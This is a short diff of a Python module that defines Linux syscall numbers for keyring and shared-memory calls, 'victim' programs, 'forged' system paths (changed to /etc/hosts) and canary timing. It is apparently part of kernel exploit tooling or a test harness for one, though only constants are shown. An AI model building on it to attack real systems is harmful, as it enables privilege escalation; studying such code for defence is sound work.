@@ -24,8 +24,8 @@ _ADD_KEY, _KEYCTL, _SHMGET, _SHMCTL, _IOPRIO_GET = {
 }.get(platform.machine()) or (None,) * 5
 _USER_KEYRING, _UNLINK = -4, 9
 _VICTIMS = ("kill", "touch")
-_FORGED = ("/usr/bin/env", "/usr/share")
-"""What every machine has and every run is given: a file and a folder."""
+_FORGED = ("/etc/hosts", "/usr/share")
+"""What machines have and every run is given: a file and a folder."""
 
 _CHAIN = 1500
 _LIFE = 120  # seconds for a victim whose canary was killed
